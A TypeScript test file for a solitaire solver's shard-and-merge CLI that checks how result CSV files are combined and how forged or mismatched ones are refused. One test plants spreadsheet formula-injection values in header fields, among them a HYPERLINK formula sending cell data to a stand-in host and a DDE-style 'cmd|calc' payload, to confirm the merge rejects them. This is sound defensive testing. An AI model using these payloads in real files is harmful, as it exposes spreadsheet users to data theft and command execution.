import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { athena, klondike } from '@solitaire/variants';
import { inlineRunner } from './pool.js';
import { recordFor, recordLine } from './results.js';
import { runSolve } from './run.js';

const solve = async (dir: string, ...argv: string[]) => {
  const out: string[] = [],
    err: string[] = [];
  const code = await runSolve(argv, {
    stdout: { write: (s: string) => out.push(s) },
    stderr: { write: (s: string) => err.push(s) },
    env: { LANG: 'en_GB.UTF-8' },
    runDeals: inlineRunner,
    cwd: dir,
  });
  return { code, out: out.join(''), err: err.join('') };
};
/** A results file's lines without the times, which no two runs share. */
const rowsOf = (dir: string, file: string) =>
  readFileSync(join(dir, file), 'utf8')
    .split('\n')
    .map((l) => l.replace(/^(\d+,\w+),\d+,/, '$1,_,'));
const header = (def: typeof athena) =>
  `${recordLine(recordFor(def, {}, { kind: 'numbers', deals: [] }, 1, null))}\ndeal,result,ms,nodes\n`;

describe('solitaire solve --shard and merge', () => {
  it('four shards of Athena deals 1-40 merged equal one run of 1-40', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'merge-'));
    // A node budget, not a time cap: the same answers whatever the machine's load.
    const whole = await solve(dir, 'athena', '--deals', '1-40', '--nodes', '20000', '--csv', 'whole.csv');
    expect(whole.code).toBe(0);
    for (const k of [1, 2, 3, 4]) {
      const shard = await solve(
        dir,
        'athena',
        '--deals',
        '1-40',
        '--nodes',
        '20000',
        '--shard',
        `${k}/4`,
        '--csv',
        `part${k}.csv`,
      );
      expect(shard.code).toBe(0);
      expect(
        rowsOf(dir, `part${k}.csv`)
          .slice(2, -1)
          .map((r) => Number(r.split(',')[0])),
      ).toEqual(Array.from({ length: 10 }, (_, i) => k + 4 * i));
    }
    const merged = await solve(dir, 'merge', 'part3.csv', 'part1.csv', 'part4.csv', 'part2.csv', '--csv', 'all.csv');
    expect(merged).toMatchObject({ code: 0, err: '' });
    expect(rowsOf(dir, 'all.csv')).toEqual(rowsOf(dir, 'whole.csv'));
    expect(merged.out).toMatch(
      /^Athena: 40 deals, \d+ won, \d+ lost, \d+ unknown \(at most 20,000 positions a deal, merged from 4 files\)\n/,
    );
    // What the summary says about winnability is the same (times differ between any two runs).
    const facts = (out: string) => out.split('\n').filter((l) => /^(Winnable|Counting)/.test(l));
    expect(facts(merged.out)).toHaveLength(2);
    expect(facts(merged.out)).toEqual(facts(whole.out));
    expect(merged.out).toContain('Results written to all.csv');
  });

  it('refuses to merge an Athena file with a Klondike file, naming the file and line', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'merge-'));
    writeFileSync(join(dir, 'a.csv'), `${header(athena)}1,won,5,100\n`);
    writeFileSync(join(dir, 'k.csv'), `${header(klondike)}2,lost,5,100\n`);
    const r = await solve(dir, 'merge', 'a.csv', 'k.csv', '--csv', 'all.csv');
    expect(r.code).toBe(1);
    expect(r.err).toBe('solitaire solve: k.csv holds deals of Klondike, not of Athena (line 1)\n');
    expect(() => readFileSync(join(dir, 'all.csv'))).toThrow();
  });

  it('refuses other options or limits, contradictions and unrecorded files; identical repeats are fine', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'merge-'));
    writeFileSync(join(dir, 'a.csv'), `${header(athena)}1,won,5,100\n2,lost,5,100\n`);
    writeFileSync(join(dir, 'same.csv'), `${header(athena)}2,lost,9,100\n3,unknown,1000,100\n`);
    writeFileSync(join(dir, 'draw1.csv'), `${header(athena).replace('draw:3', 'draw:1')}4,won,5,100\n`);
    writeFileSync(join(dir, 'cap10.csv'), `${header(athena).replace('cap=1 ', 'cap=10 ')}4,won,5,100\n`);
    writeFileSync(join(dir, 'clash.csv'), `${header(athena)}7,won,5,100\n1,lost,5,100\n`);
    writeFileSync(join(dir, 'old.csv'), 'deal,result,ms,nodes\n1,won,5,100\n');
    writeFileSync(join(dir, 'all.csv'), 'an older merge\n');
    const ok = await solve(dir, 'merge', 'a.csv', 'same.csv', '--csv', 'all.csv');
    expect(ok.code).toBe(0);
    expect(readFileSync(join(dir, 'all.csv'), 'utf8')).toBe(
      `${header(athena)}1,won,5,100\n2,lost,5,100\n3,unknown,1000,100\n`,
    );
    expect(ok.out).toMatch(/^Athena: 3 deals, 1 won, 1 lost, 1 unknown \(cap 1 s, merged from 2 files\)\n/);
    const refusal = async (...files: string[]) => {
      const r = await solve(dir, 'merge', ...files, '--csv', 'all.csv');
      expect(r.code).toBe(1);
      return r.err;
    };
    expect(await refusal('a.csv', 'draw1.csv')).toContain(
      'draw1.csv records options=draw:1,redeals:unlimited, but draw:3,redeals:unlimited is asked (line 1)',
    );
    expect(await refusal('a.csv', 'cap10.csv')).toContain('cap10.csv records cap=10, but 1 is asked (line 1)');
    expect(await refusal('a.csv', 'clash.csv')).toContain(
      'clash.csv line 4: deal 1 is lost there, but won in a.csv line 3',
    );
    expect(await refusal('old.csv', 'a.csv')).toContain('old.csv does not record its game and options (line 1)');
    expect(await refusal('a.csv', 'missing.csv')).toContain('cannot read missing.csv');
    // A refused merge leaves the older output as it was.
    expect(readFileSync(join(dir, 'all.csv'), 'utf8')).toBe(
      `${header(athena)}1,won,5,100\n2,lost,5,100\n3,unknown,1000,100\n`,
    );
  });

  it('checks its outputs before it reads the files, and prints the summary before it writes them', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'merge-'));
    writeFileSync(join(dir, 'a.csv'), `${header(athena)}1,won,5,100\n2,lost,5,100\n`);
    const early = await solve(dir, 'merge', 'a.csv', 'missing.csv', '--summary', 'nowhere/athena.json');
    expect(early).toEqual({
      code: 1,
      out: '',
      err:
        'solitaire solve: cannot write nowhere/athena.json: its folder nowhere does not exist; ' +
        'nothing was started\n',
    });
    // A CSV that cannot be written (a folder took its temporary file's name) is said after the summary was printed.
    mkdirSync(join(dir, 'sub'));
    mkdirSync(join(dir, 'sub', 'all.csv.part'));
    const late = await solve(dir, 'merge', 'a.csv', '--csv', 'sub/all.csv');
    expect(late.code).toBe(1);
    expect(late.out).toMatch(/^Athena: 2 deals, 1 won, 1 lost, 0 unknown \(cap 1 s, merged from 1 file\)\n/);
    expect(late.out).not.toContain('Results written');
    expect(late.err).toBe('solitaire solve: cannot write sub/all.csv.part: it is a folder\n');
  });

  it('refuses a file with a field it would not write, naming file and line, with or without --summary', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'merge-'));
    const good = header(athena);
    writeFileSync(join(dir, 'good.csv'), `${good}1,won,5,100\n`);
    const forged = (name: string, from: string, to: string, rows = '2,lost,5,100\n') => {
      expect(good).toContain(from);
      writeFileSync(join(dir, name), `${good.replace(from, to)}${rows}`);
      return name;
    };
    const cases: [string, string][] = [
      [
        forged('formula.csv', 'redeals:unlimited', 'redeals:unlimited,=HYPERLINK("http://x/"&A1)'),
        'options=draw:3,redeals:unlimited,=HYPERLINK("http://x/"&A1)',
      ],
      [forged('at.csv', 'draw:3', '@SUM(A1:A9)'), 'options=@SUM(A1:A9),redeals:unlimited'],
      [forged('value.csv', 'draw:3', 'draw:+3'), 'options=draw:+3,redeals:unlimited'],
      [forged('unknown-option.csv', 'draw:3', 'draw:3,dealer:me'), 'options=draw:3,dealer:me,redeals:unlimited'],
      [forged('missing-option.csv', 'draw:3,', ''), 'options=redeals:unlimited'],
      [forged('order.csv', 'draw:3,redeals:unlimited', 'redeals:unlimited,draw:3'), 'options=redeals:unlimited,draw:3'],
      [forged('deals.csv', 'deals=numbers', 'deals=numbers,-2+3'), 'deals=numbers,-2+3'],
      [forged('cap.csv', 'cap=1 ', 'cap=1e0 '), 'cap=1e0'],
      [forged('nodes.csv', 'nodes=none', 'nodes=-5'), 'nodes=-5'],
      [forged('solver.csv', /solver=\S+/.exec(good)![0], 'solver==cmd|calc'), 'solver==cmd|calc'],
      [forged('game.csv', 'game=athena', 'game=athena,=1'), 'game=athena,=1'],
      [forged('extra.csv', 'nodes=none', 'nodes=none note=+1'), 'note=+1'],
      [forged('twice.csv', 'cap=1 ', 'cap=1 cap=2 '), `${good.slice(0, 59)}…`],
      [forged('row.csv', 'cap=1', 'cap=1', '2,lost,5,9999999999999999\n'), '2,lost,5,9999999999999999'],
    ];
    for (const [file, reason] of cases) {
      for (const flags of [[], ['--summary', 'athena.json']]) {
        const r = await solve(dir, 'merge', 'good.csv', file, '--csv', 'all.csv', ...flags);
        const line = file === 'row.csv' ? 3 : 1;
        const err = `solitaire solve: ${file} is not a results file of solitaire solve (line ${line}: ${reason})\n`;
        expect(r, file).toEqual({ code: 1, out: '', err });
      }
    }
    expect(existsSync(join(dir, 'all.csv'))).toBe(false);
    expect(existsSync(join(dir, 'athena.json'))).toBe(false);
  });

  it('refuses files of two solvers, and still merges files written before the solver was recorded', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'merge-'));
    const good = header(athena),
      version = /solver=(\S+)/.exec(good)![1]!;
    writeFileSync(join(dir, 'new.csv'), `${good}1,won,5,100\n`);
    writeFileSync(join(dir, 'other.csv'), `${good.replace(`solver=${version}`, 'solver=0.0.1')}2,won,5,100\n`);
    const clash = await solve(dir, 'merge', 'new.csv', 'other.csv');
    expect(clash.err).toBe(
      `solitaire solve: other.csv records solver=0.0.1, but ${version} is asked (line 1): ` +
        'the results do not belong together\n',
    );
    // As main wrote them: no solver field.
    const old = good.replace(` solver=${version}`, '');
    writeFileSync(join(dir, 'old1.csv'), `${old}1,won,5,100\n`);
    writeFileSync(join(dir, 'old2.csv'), `${old}2,lost,5,100\n`);
    const merged = await solve(dir, 'merge', 'old1.csv', 'old2.csv', '--csv', 'all.csv');
    expect(merged).toMatchObject({ code: 0, err: '' });
    expect(readFileSync(join(dir, 'all.csv'), 'utf8')).toBe(`${old}1,won,5,100\n2,lost,5,100\n`);
  });

  it('refuses a set of shards with one missing, unless --incomplete, which says which', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'merge-'));
    const shard = (k: number, n: number, rows: string) => {
      writeFileSync(join(dir, `p${k}of${n}.csv`), `${header(athena).replace('shard=1/1', `shard=${k}/${n}`)}${rows}`);
      return `p${k}of${n}.csv`;
    };
    const files = [
      shard(1, 4, '1,won,5,100\n5,won,5,100\n'),
      shard(2, 4, '2,lost,5,100\n'),
      shard(3, 4, '3,won,5,100\n'),
      shard(4, 4, '4,unknown,1000,100\n'),
    ];
    const missing = await solve(dir, 'merge', ...files.slice(0, 3), '--csv', 'all.csv');
    expect(missing).toEqual({
      code: 1,
      out: '',
      err: 'solitaire solve: shard 4 of 4 is missing: merge them all, or add --incomplete to merge these alone\n',
    });
    expect(existsSync(join(dir, 'all.csv'))).toBe(false);
    expect((await solve(dir, 'merge', files[1]!, '--csv', 'all.csv')).err).toContain('shards 1, 3-4 of 4 are missing');

    const partial = await solve(dir, 'merge', ...files.slice(0, 3), '--incomplete', '--csv', 'some.csv');
    expect(partial.code).toBe(0);
    expect(partial.out).toMatch(/^Athena: 4 deals, 3 won, 1 lost, 0 unknown \(cap 1 s, merged from 3 files\)\n/);
    expect(partial.out).toContain(
      '\nIncomplete: shard 4 of 4 is missing; the counts are of the others\nResults written to some.csv\n',
    );
    expect(readFileSync(join(dir, 'some.csv'), 'utf8').split('\n')[0]).toMatch(/ shard=1-3\/4$/);
    // The missing shard joined later makes the set whole again: the file then says so as a single run's does.
    const whole = await solve(dir, 'merge', 'some.csv', files[3]!, '--csv', 'all.csv');
    expect(whole).toMatchObject({ code: 0, err: '' });
    expect(whole.out).not.toContain('Incomplete');
    const rows = '1,won,5,100\n2,lost,5,100\n3,won,5,100\n4,unknown,1000,100\n5,won,5,100\n';
    expect(readFileSync(join(dir, 'all.csv'), 'utf8')).toBe(`${header(athena)}${rows}`);

    const summary = await solve(dir, 'merge', ...files.slice(0, 3), '--incomplete', '--summary', 'athena.json');
    expect(summary).toEqual({
      code: 1,
      out: '',
      err: 'solitaire solve: --summary records complete runs only, and shard 4 of 4 is missing\n',
    });
    const frErr: string[] = [];
    const fr = await runSolve(['merge', ...files.slice(0, 2)], {
      stdout: { write: () => true },
      stderr: { write: (s: string) => frErr.push(s) },
      env: { LANG: 'fr_FR.UTF-8' },
      cwd: dir,
    });
    expect(fr).toBe(1);
    expect(frErr.join('')).toBe(
      'solitaire solve: les parties 3-4 sur 4 manquent : réunissez-les toutes, ' +
        'ou ajoutez --incomplete pour réunir celles-ci seules\n',
    );
    const otherSplit = shard(1, 3, '1,won,5,100\n');
    expect((await solve(dir, 'merge', files[0]!, otherSplit)).err).toBe(
      'solitaire solve: p1of3.csv holds shard 1/3, p1of4.csv shard 1/4: ' +
        'shards of different splits cannot be checked for gaps\n',
    );
    // A file of the whole list covers every shard of any split.
    const all = shard(1, 1, '1,won,5,100\n');
    expect(await solve(dir, 'merge', files[1]!, all)).toMatchObject({ code: 0, err: '' });
  });

  it('merges files that record no shard (written before shards were recorded) as before', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'merge-'));
    const old = header(athena).replace(/ solver=\S+ shard=1\/1/, '');
    expect(old).toBe(
      '# solitaire solve format=2 game=athena options=draw:3,redeals:unlimited deals=numbers cap=1 nodes=none\n' +
        'deal,result,ms,nodes\n',
    );
    writeFileSync(join(dir, 'a.csv'), `${old}1,won,5,100\n`);
    writeFileSync(join(dir, 'c.csv'), `${old}3,won,5,100\n`);
    const merged = await solve(dir, 'merge', 'a.csv', 'c.csv', '--csv', 'all.csv');
    expect(merged).toMatchObject({ code: 0, err: '' });
    expect(readFileSync(join(dir, 'all.csv'), 'utf8')).toBe(`${old}1,won,5,100\n3,won,5,100\n`);
  });
});
